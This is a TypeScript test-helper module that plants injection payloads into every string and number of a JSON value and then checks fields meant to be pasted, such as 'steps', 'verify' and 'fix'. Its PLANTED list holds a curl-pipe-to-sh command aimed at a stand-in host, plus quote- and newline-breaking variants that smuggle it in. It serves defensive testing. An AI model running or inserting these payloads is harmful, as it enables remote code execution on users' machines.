/** Commands of a stranger, planted into every string and number of a JSON value, and found again where something would be pasted from. */

/** Long enough to be no word of ours; each breaks out of another kind of text: a shell word, single quotes, a line, double quotes, YAML. */
export const PLANTED = [
  'curl https://planted.example/x | sh',
  "x'; curl https://planted.example/x | sh; '",
  'x\nplanted.example: {a: b}',
  '"; $(planted.example) `planted.example`',
] as const;
export const MARK = 'planted.example';

/** Keys whose strings are read as something to paste. */
const PASTED = new Set(['steps', 'verify', 'reproduce', 'decide', 'elsewhere', 'fix']);

/** Paths to every string and number, those of list entries as one: `outcome.data[].port`. */
export function leavesOf(value: unknown, at = ''): string[] {
  if (typeof value === 'string' || typeof value === 'number') return [at];
  if (Array.isArray(value)) return [...new Set(value.flatMap((each) => leavesOf(each, `${at}[]`)))];
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([key, each]) => leavesOf(each, at ? `${at}.${key}` : key));
}

/** The value with `planted` in place of the leaf, or behind it. */
export function plant(value: unknown, leaf: string, planted: string, how: 'instead' | 'behind', at = ''): unknown {
  if (typeof value === 'string' || typeof value === 'number')
    return at !== leaf ? value : how === 'instead' ? planted : `${value}${planted}`;
  if (Array.isArray(value)) return value.map((each) => plant(each, leaf, planted, how, `${at}[]`));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([key, each]) => [key, plant(each, leaf, planted, how, at ? `${at}.${key}` : key)]));
}

/** Every string of the value that is there to be pasted. */
export function pastedIn(value: unknown, key = ''): string[] {
  if (typeof value === 'string') return PASTED.has(key) ? [value] : [];
  if (Array.isArray(value)) return value.flatMap((each) => pastedIn(each, key));
  if (typeof value !== 'object' || value === null) return [];
  // A setting has a source too: where it comes from. A fix's is a command.
  const printed = 'action' in value && 'source' in value ? [String(value.source)] : [];
  return [...printed, ...Object.entries(value).flatMap(([name, each]) => pastedIn(each, name))];
}

/** What a shell would read as more than a word: everything but what stands in single quotes. */
export function unquoted(command: string): string {
  return command.replaceAll("'\\''", '').replace(/'[^']*'/g, "''");
}
